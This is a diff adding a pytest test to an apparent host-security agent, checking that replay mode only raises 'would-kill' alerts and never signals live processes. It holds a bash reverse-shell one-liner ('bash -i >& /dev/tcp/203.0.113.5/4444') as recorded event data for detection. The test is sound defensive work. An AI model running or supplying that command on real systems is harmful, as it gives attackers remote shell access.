@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import os
+import time
 from pathlib import Path
 
 import pytest
@@ -57,3 +59,45 @@ def test_missing_file(tmp_path: Path) -> None:
     s = ReplaySensor(tmp_path / "nope.jsonl")
     with pytest.raises(ReplayError, match="nope.jsonl: cannot open replay file"):
         s.open()
+
+
+def test_a_replay_never_acts_on_the_live_host(tmp_path: Path) -> None:
+    """s24: ``bastion run --replay`` armed its responses like a live agent: a recorded
+    reverse shell whose pid (and start time) a live process holds now -- a recording
+    replayed on the host it came from, or pids the recording shares by chance -- had
+    that live process SIGKILLed (the replay bench killed host processes this way).  A
+    replay only says what would have been done: the decision is made and alerted as
+    ``would-kill``, nothing is signalled."""
+    import subprocess
+    import threading
+
+    from support.policies import default_policy
+
+    from bastion.assembly import AgentOptions, build_agent
+    from bastion.config import parse_policy
+    from bastion.events import ExecEvent
+    from bastion.procstat import read_stat
+
+    live = subprocess.Popen(["sleep", "60"])
+    try:
+        st = read_stat(live.pid)
+        me = Proc(live.pid, live.pid, os.getpid(), 0, 0, 0, 7, "bash", st.start_ns, "/usr/bin/bash")
+        shell = ExecEvent(time.time_ns(), me, filename="/usr/bin/bash", cwd="/tmp",
+                          argv=("bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"))
+        trace = _write(tmp_path / "t.jsonl", [json.dumps(to_json(shell))])
+        pol = default_policy(tmp_path / "p.yaml", tmp_path / "shield")
+        agent = build_agent(AgentOptions(policy=parse_policy(pol.read_text(), str(pol)),
+                                         data_dir=tmp_path / "data", socket_path=None,
+                                         replay_path=trace), lambda _m: None)
+        agent.run(threading.Event())
+        acts = [r.data for r in agent.store.alerts(limit=50)
+                if r.data.get("rule", "").startswith("behavior.")]
+        agent.store.close()
+        assert acts, "the recorded reverse shell raised nothing"
+        assert live.poll() is None, f"the replay killed a live process: {acts}"
+        assert {a["action"] for a in acts} <= {"alert"} | {f"would-{x}" for x in
+                                                          ("kill", "kill-tree", "quarantine")}
+        assert any(a["action"].startswith("would-") for a in acts), acts
+    finally:
+        live.kill()
+        live.wait()
